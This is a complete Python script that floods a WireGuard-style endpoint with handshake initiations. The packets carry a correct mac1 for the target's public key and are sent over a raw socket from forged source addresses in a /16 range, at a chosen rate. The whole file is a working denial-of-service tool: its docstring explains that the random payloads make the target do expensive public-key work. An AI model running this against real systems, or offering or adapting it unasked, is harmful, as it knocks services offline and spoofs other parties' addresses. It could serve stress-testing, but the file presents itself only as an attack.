# SPDX-License-Identifier: MIT
"""Sends handshake initiations with a right mac1 from forged source addresses, as fast as asked.

    flood.py TARGET PORT PUBLIC_KEY SOURCES COUNT RATE

SOURCES is a /16 as "10.98": the sources are random addresses and ports in it. All else in the
messages is random, so the target must do its public-key work to find out. COUNT bounds it. They
come in bursts, 20 a second, drawn from a few thousand that are made beforehand: a queue that is
emptied fast fills all the same.
"""

import base64
import hashlib
import os
import random
import socket
import struct
import sys
import time

_MADE = 4096
_BURSTS_A_SECOND = 20


def initiation(public_key):
    """148 bytes that pass mac1 for this key and no other check."""
    message = b"\x01\0\0\0" + os.urandom(112)
    key = hashlib.blake2s(b"mac1----" + public_key).digest()
    return message + hashlib.blake2s(message, key=key, digest_size=16).digest() + bytes(16)


def _datagram(source, target, port, payload):
    """An IPv4 packet; the kernel fills in identification and header checksum."""
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), port, 8 + len(payload), 0)
    length = 20 + 8 + len(payload)
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, 64, 17, 0, source, socket.inet_aton(target)
    )
    return head + udp + payload


def main(target, port, public_key, sources, count, rate):
    """Sends `count` datagrams, `rate` a second."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    key = base64.b64decode(public_key)
    prefix = bytes(int(part) for part in sources.split("."))
    made = [
        _datagram(prefix + os.urandom(2), target, int(port), initiation(key)) for _ in range(_MADE)
    ]
    burst = max(1, int(rate) // _BURSTS_A_SECOND)
    begun = time.monotonic()
    print("flooding", flush=True)
    for sent in range(0, int(count), burst):
        for number in range(sent, min(sent + burst, int(count))):
            raw.sendto(made[number % _MADE], (target, 0))
        ahead = (sent + burst) / float(rate) - (time.monotonic() - begun)
        if ahead > 0:
            time.sleep(ahead)
    print("done", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
